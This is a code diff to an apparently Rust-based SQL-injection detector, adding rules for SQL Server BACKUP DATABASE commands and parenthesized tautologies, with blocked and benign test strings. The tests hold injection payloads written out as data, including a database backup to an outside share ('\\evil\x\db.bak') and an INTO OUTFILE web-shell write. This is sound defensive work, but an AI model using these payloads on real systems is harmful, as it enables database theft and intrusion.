@@ -68,6 +68,7 @@ enum Kw {
     Not,
     Asc,
     Grant,
+    Backup,
 }
 
 /// Functions by what they tell of the caller.
@@ -165,6 +166,7 @@ fn keyword(word: &str) -> Option<Tok> {
         "not" => Not,
         "asc" | "desc" => Asc,
         "grant" | "revoke" => Grant,
+        "backup" => Backup,
         "and" | "or" | "xor" | "div" => return Some(Tok::Logic),
         _ => return None,
     };
@@ -259,6 +261,7 @@ const KNOWN_WORDS: &[&str] = &[
     "asc",
     "ascii",
     "avg",
+    "backup",
     "benchmark",
     "between",
     "by",
@@ -900,6 +903,15 @@ fn statement(t: &[Token], i: usize) -> bool {
         ),
         Some(Tok::Kw(Shutdown)) => matches!(kind(t, i + 1), None | Some(Tok::Semi)),
         Some(Tok::Kw(Grant)) => matches!(kind(t, i + 1), Some(Tok::Bare | Tok::Kw(All | Select))),
+        // SQL Server writing a database out to a share: `BACKUP DATABASE master TO
+        // DISK='\\host\share\x.bak'`. ("Backup database to disk" is a sentence: no target.)
+        Some(Tok::Kw(Backup)) => {
+            matches!(kind(t, i + 1), Some(Tok::Kw(Table) | Tok::Bare))
+                && (i + 2..i + 7).any(|j| {
+                    matches!(kind(t, j), Some(Tok::Cmp))
+                        && matches!(kind(t, j + 1), Some(Tok::Str { .. }))
+                })
+        }
         Some(Tok::Kw(Declare)) => matches!(kind(t, i + 1), Some(Tok::Var { .. })),
         Some(Tok::Kw(Waitfor)) => matches!(kind(t, i + 1), Some(Tok::Kw(Delay))),
         Some(Tok::Kw(Set)) => matches!(kind(t, i + 1), Some(Tok::Var { .. })),
@@ -1318,7 +1330,12 @@ fn compared_at(t: &[Token], i: usize) -> bool {
 
 /// `or 1=1`, `or 'a'='a'`: a comparison of a literal with itself after a logical operator.
 fn tautology(t: &[Token], i: usize) -> Verdict {
-    let (a, b, c) = (t.get(i + 1)?, t.get(i + 2)?, t.get(i + 3)?);
+    // The comparison may be parenthesized: `or (1=1)`, `') or ('a'='a`.
+    let mut j = i + 1;
+    while matches!(kind(t, j), Some(Tok::LParen)) && j - i <= 3 {
+        j += 1;
+    }
+    let (a, b, c) = (t.get(j)?, t.get(j + 1)?, t.get(j + 2)?);
     if b.kind != Tok::Cmp {
         return None;
     }
@@ -1326,7 +1343,7 @@ fn tautology(t: &[Token], i: usize) -> Verdict {
         (a.kind, c.kind),
         (Tok::Num, Tok::Num) | (Tok::Str { .. }, Tok::Str { .. })
     );
-    same.then_some((Severity::High, 0.85, i, i + 4))
+    same.then_some((Severity::High, 0.85, i, j + 3))
 }
 
 /// Looks for SQL injection in a decoded value.
@@ -1508,6 +1525,10 @@ mod tests {
             "select @@version",
             "1' ORDER BY 1--+",
             "' INTO OUTFILE '/var/www/shell.php",
+            "BACKUP database master to disk='\\\\10.0.0.1\\share\\backupdb.dat'",
+            "'; backup database master to disk='\\\\evil\\x\\db.bak'--",
+            "1 or (1=1)",
+            ") or ('1'='1",
         ] {
             assert!(blocked(attack), "missed {attack:?}: {:?}", severity(attack));
         }
@@ -1533,6 +1554,9 @@ mod tests {
             "It's 5 o'clock -- time for tea",
             "user@example.com",
             "Let's update the table; then select a winner",
+            "How do I backup database master to disk every night?",
+            "backup log files to disk (2 or (3 copies))",
+            "choose 1 or (2 or 3)",
         ] {
             assert!(!blocked(benign), "false alarm on {benign:?}: {:?}", severity(benign));
         }
